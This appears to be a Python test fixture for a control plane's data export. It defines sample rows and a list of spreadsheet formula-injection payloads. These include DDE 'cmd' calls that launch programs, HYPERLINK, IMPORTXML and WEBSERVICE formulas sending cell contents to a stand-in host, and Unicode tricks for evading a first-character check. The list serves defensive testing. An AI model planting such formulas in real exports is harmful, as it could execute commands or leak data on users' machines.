# SPDX-License-Identifier: Apache-2.0
"""Rows as an export is given them, the usual ones and hostile ones."""

import json

from controlplane.exports.rows import ExportRow, content_of
from tests.records import NOON, make_record

ALLOWED = {"outcome": "allow", "verdict": "forwarded"}
DENIED = {"outcome": "deny", "reasons": (("access-denied", "chat-access"),)}

# What published lists of such payloads have in common, in our own words, and ways around a check of the first letter.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://a.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://a.example/", A1), "//a")',
    '=WEBSERVICE("http://a.example")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x1b=1+1",
    '"=1+1"',
    "'=1+1",
    "“=1+1",
    "«=1+1",
    ' " \u200b=1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "−1+1",
    "⁼1+1",
    "\t",
    "\r",
]  # fmt: skip


def make_row(log_index: int = 0, *, subject: str | None = None, **members) -> ExportRow:
    """Return the row of a record of `tests.records.make_record`."""
    record = make_record(seq=log_index + 1, **({} if subject is None else {"subject": subject}), **members)
    whose, asked = content_of(record.payload)
    return ExportRow(
        log_index=log_index,
        first_index=log_index,
        received_at=NOON,
        envelope=record.envelope,
        subject=whose,
        input=asked,
    )


def row_of(envelope: object, **members) -> ExportRow:
    """Return the row of an envelope of any shape."""
    return ExportRow(log_index=0, first_index=0, received_at=NOON, envelope=json.dumps(envelope).encode(), **members)


def every_kind_of_row() -> list[ExportRow]:
    """Return one row of each outcome and verdict, with findings, remarks and what was not scanned."""
    finding = {"detector": "iban", "policy": "answer-redaction", "rule": "bank", "action": "replace", "count": 2}
    uncovered = {
        "scanned": ["request"],
        "not_scanned": [{"path": "request.model", "reason": "decided-on"}],
        "stripped": 0,
    }
    refused = {"method": "POST", "route": None, "status": 401, "bytes_in": 9, "bytes_out": 0, "stream": False}
    return [
        make_row(0),
        make_row(1, verdict="redacted", findings=[finding], coverage=uncovered),
        make_row(2, **DENIED),
        make_row(3, outcome="error_deny", verdict="blocked", reasons=(("policy-unavailable", ""),)),
        make_row(4, verdict="cut", trace_id="4bf92f3577b34da6a3ce929d0e0e4736"),
        make_row(5, kind="admission"),
        make_row(6, would_have="deny"),
        make_row(7, outcome="deny", reasons=(("key-unknown", ""),), http=refused, resource=None),
    ]
